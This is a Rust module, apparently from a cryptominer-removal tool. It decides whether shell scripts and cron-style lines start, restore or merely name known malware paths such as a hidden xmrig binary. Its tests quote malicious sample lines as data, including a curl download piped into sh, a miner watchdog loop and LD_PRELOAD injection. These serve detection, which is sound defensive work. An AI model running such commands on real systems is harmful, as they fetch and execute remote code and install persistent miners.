//! What the text of a script or a line does with condemned paths: its own bytes, nothing that they point to.

use std::collections::{BTreeMap, BTreeSet};

use deminer_worker::text::{HostBytes, HostPath};

use crate::command_words::{SimpleCommand, simple_commands_at};
use crate::known_programs::SETTING;

/// What a text does with condemned paths, weakest first.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Speech {
    /// Does not name one outside of comments.
    Silent,
    /// Names one.
    Names(HostPath),
    /// Puts one in its place, or starts it.
    Serves(HostPath),
}

/// What all commands of a text come to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Tenor {
    /// None of them starts a condemned path.
    Unrelated,
    /// Some do, others serve another purpose or are not told.
    Mixed(HostPath),
    /// All serve a condemned path.
    Condemned(HostPath),
}

/// Programs that have no effect of their own beside a condemned one.
const INERT: [&[u8]; 23] = [
    b"cd",
    b"pushd",
    b"popd",
    b"sleep",
    b"true",
    b"false",
    b":",
    b"test",
    b"[",
    b"[[",
    b"mkdir",
    b"exit",
    b"wait",
    b"break",
    b"continue",
    b"echo",
    b"printf",
    b"return",
    b"export",
    b"set",
    b"unset",
    b"umask",
    b"shift",
];
/// Functions for init scripts; to read them does nothing.
const FUNCTIONS: [&[u8]; 4] = [
    b"/lib/lsb/init-functions",
    b"/etc/init.d/functions",
    b"/etc/rc.d/init.d/functions",
    b"/etc/rc.status",
];
/// Programs that look for or end processes by name; inert where they name a condemned one.
const SEEKERS: [&[u8]; 7] = [b"pgrep", b"pkill", b"killall", b"pidof", b"ps", b"grep", b"egrep"];
/// Programs that put a file somewhere; the last argument is where.
const COPIERS: [&[u8]; 4] = [b"cp", b"mv", b"ln", b"install"];
/// Programs that fetch.
const FETCHERS: [&[u8]; 4] = [b"curl", b"wget", b"fetch", b"lwp-download"];
/// Words by which a program that is no shell starts another.
const CALLS: [&[u8]; 10] = [
    b"subprocess",
    b"Popen",
    b"system(",
    b"system ",
    b"exec",
    b"spawn",
    b"popen",
    b"call(",
    b"run(",
    b"shell_exec",
];

fn base(word: &[u8]) -> &[u8] {
    word.rsplit(|b| *b == b'/').next().unwrap_or(word)
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    !part.is_empty() && text.windows(part.len()).any(|run| run == part)
}

/// Whether a path stands in a text as a word of its own.
fn has_word(text: &[u8], path: &[u8]) -> bool {
    let ends =
        |b: Option<&u8>| b.is_none_or(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-')));
    path.len() > 1
        && text.windows(path.len()).enumerate().any(|(at, run)| {
            run == path && ends(text.get(at + path.len())) && ends(at.checked_sub(1).map(|at| &text[at]))
        })
}

/// The text without comment lines.
fn without_comments(text: &[u8]) -> Vec<u8> {
    text.split(|b| *b == b'\n')
        .filter(|line| line.trim_ascii_start().first() != Some(&b'#'))
        .collect::<Vec<_>>()
        .join(&b'\n')
}

/// The text with `$NAME` and `${NAME}` written out where it sets NAME to plain words itself, once and for all.
fn written_out(text: &[u8]) -> Vec<u8> {
    let mut settings: BTreeMap<&[u8], Option<&[u8]>> = BTreeMap::new();
    for word in text.split(|b| b.is_ascii_whitespace() || *b == b';') {
        let Some(at) = word.iter().position(|b| *b == b'=') else {
            continue;
        };
        let (name, value) = (&word[..at], &word[at + 1..]);
        let plain_name = name.first().is_some_and(u8::is_ascii_alphabetic)
            && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
        if !plain_name {
            continue;
        }
        let value = [&b"'"[..], b"\""]
            .into_iter()
            .find_map(|quote| value.strip_prefix(quote)?.strip_suffix(quote))
            .unwrap_or(value);
        let plain = value
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+' | b':'));
        settings
            .entry(name)
            .and_modify(|known| *known = None)
            .or_insert(plain.then_some(value));
    }
    let mut out = Vec::with_capacity(text.len());
    let mut at = 0;
    while at < text.len() && out.len() < 4 * crate::command_words::TEXT_BYTES {
        let rest = &text[at..];
        let inner = rest
            .strip_prefix(b"$")
            .map(|rest| rest.strip_prefix(b"{").unwrap_or(rest));
        let name = inner.map(|inner| {
            let end = inner
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                .unwrap_or(inner.len());
            (&inner[..end], inner.get(end) == Some(&b'}'), rest.len() - inner.len())
        });
        match name.and_then(|(name, closed, before)| Some((settings.get(name).copied()??, name, closed, before))) {
            Some((value, name, closed, before)) if before == 1 || closed => {
                out.extend_from_slice(value);
                at += before + name.len() + usize::from(before == 2);
            }
            _ => {
                out.push(text[at]);
                at += 1;
            }
        }
    }
    out
}

/// The commands of a text, comments and its own settings resolved; `cwd` is where it runs.
fn commands_of(text: &[u8], cwd: Option<&HostPath>) -> Vec<SimpleCommand> {
    simple_commands_at(&written_out(&without_comments(text)), cwd)
}

/// The condemned path that a command runs or loads.
fn started(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> Option<HostPath> {
    command.files().find(|file| condemned.contains(file))
}

/// Whether what a command runs is condemned itself, not only something that it loads or goes through on the way to another
/// purpose: `LD_PRELOAD=/bad /usr/sbin/good` is both.
fn is_wholly_bad(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> bool {
    let is_bad = |file: &HostBytes| condemned.contains(&HostPath::new(file.as_bytes()));
    let name = command.program.as_bytes();
    if name.is_empty() || SETTING.contains(&name) {
        return !command.loads.is_empty() && command.loads.iter().all(is_bad);
    }
    is_bad(&command.program) || command.script.as_ref().is_some_and(is_bad)
}

/// The condemned path that a command puts in its place: a copy to it, or a download to it.
fn placed(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> Option<HostPath> {
    let name = base(command.program.as_bytes());
    let path = |word: &[u8]| Some(HostPath::new(word)).filter(|path| condemned.contains(path));
    let arguments = &command.arguments;
    if COPIERS.contains(&name) {
        let target = arguments.last()?.as_bytes();
        let into = arguments.iter().rev().skip(1).find_map(|source| {
            let file = HostPath::new(target).join(base(source.as_bytes()));
            condemned.contains(&file).then_some(file)
        });
        return path(target).or(into);
    }
    if FETCHERS.contains(&name) {
        return arguments.iter().find_map(|word| {
            let word = word.as_bytes();
            path(word).or_else(|| path(word.strip_prefix(b"-o").or_else(|| word.strip_prefix(b"-O"))?))
        });
    }
    None
}

/// What a script does with condemned paths. `cwd` is where it runs.
pub(super) fn speech(text: &[u8], cwd: Option<&HostPath>, condemned: &BTreeSet<HostPath>) -> Speech {
    let commands = commands_of(text, cwd);
    let serves = commands
        .iter()
        .find_map(|command| started(command, condemned).or_else(|| placed(command, condemned)));
    if let Some(path) = serves {
        return Speech::Serves(path);
    }
    let plain = without_comments(text);
    let Some(named) = condemned.iter().find(|path| has_word(&plain, path.as_bytes())) else {
        return Speech::Silent;
    };
    let is_shell = text
        .split(|b| *b == b'\n')
        .next()
        .is_none_or(|first| !first.starts_with(b"#!") || first.ends_with(b"sh"));
    if !is_shell && CALLS.iter().any(|call| contains(&plain, call)) {
        return Speech::Serves(named.clone());
    }
    Speech::Names(named.clone())
}

/// Whether a text does something again and again.
pub(super) fn loops(text: &[u8]) -> bool {
    let words = [&b"while"[..], b"until", b"for", b"sleep", b"watch", b"inotifywait"];
    text.split(|b| !b.is_ascii_alphabetic())
        .any(|word| words.contains(&word))
}

/// Whether command `at` is a download that the next command takes as its commands.
fn feeds_shell(commands: &[SimpleCommand], at: usize) -> bool {
    let fetches = |command: &SimpleCommand| FETCHERS.contains(&base(command.program.as_bytes()));
    let here = commands.get(at).is_some_and(fetches) && commands.get(at + 1).is_some_and(|next| next.reads_commands);
    let taken = commands.get(at).is_some_and(|command| command.reads_commands)
        && at
            .checked_sub(1)
            .and_then(|before| commands.get(before))
            .is_some_and(fetches);
    here || taken
}

/// Whether a text pipes a download into a shell.
pub(crate) fn pipes_a_download(text: &[u8]) -> bool {
    let commands = commands_of(text, None);
    (0..commands.len()).any(|at| feeds_shell(&commands, at))
}

fn is_inert(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> bool {
    if command.untold {
        return false;
    }
    let name = base(command.program.as_bytes());
    if matches!(name, b"." | b"source") {
        return command
            .script
            .as_ref()
            .is_some_and(|file| FUNCTIONS.contains(&file.as_bytes()));
    }
    if INERT.contains(&name) || name.is_empty() || name.starts_with(b"log_") && name.ends_with(b"_msg") {
        return command.loads.is_empty();
    }
    let paths = || {
        command
            .arguments
            .iter()
            .map(|word| word.as_bytes())
            .filter(|word| word.first() == Some(&b'/'))
    };
    let is_condemned = |word: &[u8]| condemned.contains(&HostPath::new(word));
    match name {
        b"chmod" | b"chown" | b"rm" | b"touch" => {
            let hides = |word: &[u8]| {
                let directory = HostPath::new(word);
                directory.file_name().first() == Some(&b'.')
                    && condemned.iter().any(|path| path.parent().as_ref() == Some(&directory))
            };
            paths().next().is_some() && paths().all(|word| is_condemned(word) || name != b"rm" && hides(word))
        }
        _ if SEEKERS.contains(&name) => command.arguments.iter().any(|word| {
            condemned.iter().any(|path| {
                let name = path.file_name();
                name.len() > 1 && contains(word.as_bytes(), name)
            })
        }),
        _ => placed(command, condemned).is_some() && (!COPIERS.contains(&name) || paths().all(is_condemned)),
    }
}

/// Whether a text writes to a file by redirection that is no condemned path.
fn writes_elsewhere(text: &[u8], condemned: &BTreeSet<HostPath>) -> bool {
    text.split(|b| *b == b'>').skip(1).any(|rest| {
        let rest = rest.strip_prefix(b"|").unwrap_or(rest).trim_ascii_start();
        let end = rest
            .iter()
            .position(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b')' | b'}'))
            .unwrap_or(rest.len());
        let target = &rest[..end];
        let harmless = target.is_empty() || target == b"/dev/null" || target.first() == Some(&b'&');
        !harmless && !condemned.contains(&HostPath::new(target))
    })
}

/// What all commands of a text come to; a text of which something is not told is never condemned whole. `cwd` is where it
/// runs, and what `~` is.
pub(crate) fn tenor(text: &[u8], cwd: Option<&HostPath>, condemned: &BTreeSet<HostPath>) -> Tenor {
    let commands = commands_of(text, cwd);
    let mut bad: Option<HostPath> = None;
    let mut inert = false;
    let mut other = false;
    for (at, command) in commands.iter().enumerate().filter(|(_, command)| !command.is_data) {
        match started(command, condemned) {
            Some(path) => {
                bad.get_or_insert(path);
                other |= command.untold || !is_wholly_bad(command, condemned);
            }
            None if feeds_shell(&commands, at) => {}
            None if is_inert(command, condemned) => inert = true,
            None => other = true,
        }
    }
    // Whose output a redirection takes is not told: beside an inert command it may serve another purpose.
    other |= inert && writes_elsewhere(&without_comments(text), condemned);
    match bad {
        None => Tenor::Unrelated,
        Some(path) if other => Tenor::Mixed(path),
        Some(path) => Tenor::Condemned(path),
    }
}

/// The line without the parts that start a condemned path; `None` where its parts cannot be told apart, or none stays.
pub(super) fn without_condemned(line: &[u8], condemned: &BTreeSet<HostPath>) -> Option<Vec<u8>> {
    if line
        .iter()
        .any(|b| matches!(b, b'(' | b')' | b'{' | b'}' | b'`' | b'\\' | b'|'))
    {
        return None;
    }
    let mut parts: Vec<(Vec<u8>, &[u8])> = vec![(Vec::new(), b"")];
    let mut quote: Option<u8> = None;
    let mut at = 0;
    while at < line.len() {
        let byte = line[at];
        let separator: &[u8] = match (quote, byte) {
            (None, b';') => b";",
            (None, b'&') if line[at..].starts_with(b"&&") => b"&&",
            _ => b"",
        };
        if separator.is_empty() {
            match quote {
                None if matches!(byte, b'\'' | b'"') => quote = Some(byte),
                Some(open) if open == byte => quote = None,
                _ => {}
            }
            parts.last_mut()?.0.push(byte);
            at += 1;
        } else {
            parts.push((Vec::new(), separator));
            at += separator.len();
        }
    }
    let all = parts.len();
    let kept: Vec<(Vec<u8>, &[u8])> = parts
        .into_iter()
        .filter(|(part, _)| {
            simple_commands_at(part, None)
                .iter()
                .all(|command| started(command, condemned).is_none())
        })
        .collect();
    if quote.is_some() || kept.len() == all || kept.iter().all(|(part, _)| part.trim_ascii().is_empty()) {
        return None;
    }
    let mut out = Vec::new();
    for (place, (part, separator)) in kept.into_iter().enumerate() {
        if place > 0 {
            out.extend_from_slice(separator);
        }
        out.extend_from_slice(&part);
    }
    Some(out.trim_ascii().to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn condemned() -> BTreeSet<HostPath> {
        ["/tmp/.x/xmrig", "/var/tmp/.k/kw"].map(HostPath::from).into()
    }

    #[test]
    fn lines() {
        let rows: [(&str, &str); 38] = [
            ("/tmp/.x/xmrig", "condemned"),
            ("/tmp/.x/xmrig >/dev/null 2>&1", "condemned"),
            ("nohup /tmp/.x/xmrig -o h:1 &", "condemned"),
            ("cd /tmp/.x && ./xmrig", "condemned"),
            ("sleep 5; /tmp/.x/xmrig", "condemned"),
            ("pgrep xmrig || /tmp/.x/xmrig", "condemned"),
            ("ps aux | grep -q xmrig || /tmp/.x/xmrig", "mixed"),
            ("test -x /tmp/.x/xmrig && /tmp/.x/xmrig", "condemned"),
            (
                "cp /var/tmp/.k/kw /tmp/.x/xmrig; chmod +x /tmp/.x/xmrig; /tmp/.x/xmrig",
                "condemned",
            ),
            ("/tmp/.x/xmrig||curl -fsS 203.0.113.80/i|sh", "condemned"),
            ("/bin/sh -c '/tmp/.x/xmrig'", "condemned"),
            (
                "mkdir -p /tmp/.x; curl -o /tmp/.x/xmrig http://h/x; /tmp/.x/xmrig",
                "condemned",
            ),
            ("/usr/local/bin/backup.sh; /tmp/.x/xmrig", "mixed"),
            ("/tmp/.x/xmrig; rm -rf /srv/old", "mixed"),
            ("pkill nginx; /tmp/.x/xmrig", "mixed"),
            ("cp /srv/db/customers.ibd /tmp/.x/; /tmp/.x/xmrig", "mixed"),
            ("$X; /tmp/.x/xmrig", "mixed"),
            ("bash -c \"$Y\"; /tmp/.x/xmrig", "mixed"),
            ("cd /tmp/.x; ./xmrig > /srv/log", "mixed"),
            (": > /var/log/app.log; /tmp/.x/xmrig", "mixed"),
            ("sleep 1; /tmp/.x/xmrig >/dev/null 2>&1", "condemned"),
            ("mkdir -p /tmp/.x; chmod 777 /tmp/.x; /tmp/.x/xmrig", "condemned"),
            ("chmod 777 /tmp; /tmp/.x/xmrig", "mixed"),
            ("rm -f /tmp/.x/xmrig", "unrelated"),
            ("pkill -f /tmp/.x/xmrig", "unrelated"),
            ("sha256sum /tmp/.x/xmrig >> /root/incident", "unrelated"),
            ("cp /tmp/.x/xmrig /root/evidence/", "unrelated"),
            ("/usr/local/bin/backup.sh # /tmp/.x/xmrig", "unrelated"),
            ("curl -fsS 203.0.113.80/i | sh", "unrelated"),
            ("/tmp/.x/xmrig2", "unrelated"),
            ("LD_PRELOAD=/tmp/.x/xmrig /usr/sbin/nginx", "mixed"),
            ("LD_PRELOAD=/srv/a.so:/tmp/.x/xmrig", "mixed"),
            ("export LD_PRELOAD=/tmp/.x/xmrig", "condemned"),
            ("export LD_PRELOAD=/tmp/.x/xmrig PATH=$PATH", "condemned"),
            ("cat > /srv/a <<E\n/tmp/.x/xmrig\nE", "unrelated"),
            ("cat > /srv/a <<E; /tmp/.x/xmrig\nE", "mixed"),
            ("sh <<E\n/tmp/.x/xmrig\nE", "mixed"),
            ("", "unrelated"),
        ];
        for (line, expected) in rows {
            let found = match tenor(line.as_bytes(), None, &condemned()) {
                Tenor::Unrelated => "unrelated",
                Tenor::Mixed(_) => "mixed",
                Tenor::Condemned(_) => "condemned",
            };
            assert_eq!(found, expected, "{line}");
        }
    }

    #[test]
    fn scripts() {
        let rows: [(&str, &str, &str); 9] = [
            (
                "a guardian",
                "#!/bin/sh\nwhile :; do\n  pgrep -x xmrig || /tmp/.x/xmrig &\n  sleep 5\ndone\n",
                "serves",
            ),
            (
                "a guardian by setting",
                "M=/tmp/.x/xmrig\nwhile :; do [ -x \"$M\" ] || cp /a/b ${M}; $M & sleep 1; done\n",
                "serves",
            ),
            ("a copier", "cp /root/x /tmp/.x/xmrig\n", "serves"),
            (
                "python",
                "#!/usr/bin/python3\nimport subprocess\nsubprocess.run(['/tmp/.x/xmrig'])\n",
                "serves",
            ),
            ("a cleaner", "#!/bin/sh\npkill xmrig\nrm -f /tmp/.x/xmrig\n", "names"),
            ("evidence", "#!/bin/sh\ncp /tmp/.x/xmrig /root/evidence/\n", "names"),
            ("a comment", "#!/bin/sh\n# /tmp/.x/xmrig\n/usr/bin/backup\n", "silent"),
            ("another", "#!/bin/sh\n/tmp/.x/xmrigd\n", "silent"),
            ("empty", "", "silent"),
        ];
        for (name, text, expected) in rows {
            let found = match speech(text.as_bytes(), None, &condemned()) {
                Speech::Silent => "silent",
                Speech::Names(_) => "names",
                Speech::Serves(_) => "serves",
            };
            assert_eq!(found, expected, "{name}");
        }
    }

    #[test]
    fn replacements() {
        let rows = [
            (
                "/usr/local/bin/backup.sh; /tmp/.x/xmrig",
                Some("/usr/local/bin/backup.sh"),
            ),
            ("/tmp/.x/xmrig && backup 'a;b'", Some("backup 'a;b'")),
            ("/tmp/.x/xmrig", None),
            ("a | /tmp/.x/xmrig", None),
            ("a 'b", None),
        ];
        for (line, expected) in rows {
            let found = without_condemned(line.as_bytes(), &condemned());
            assert_eq!(found.as_deref(), expected.map(str::as_bytes), "{line}");
        }
    }

    proptest! {
        #[test]
        fn no_bytes_panic(text: Vec<u8>, shell in "[a$={}/;&|' \n.xtmp]{0,60}") {
            for text in [&text[..], shell.as_bytes()] {
                speech(text, None, &condemned());
                tenor(text, None, &condemned());
                writes_elsewhere(text, &condemned());
                without_condemned(text, &condemned());
                pipes_a_download(text);
                loops(text);
            }
        }
    }
}
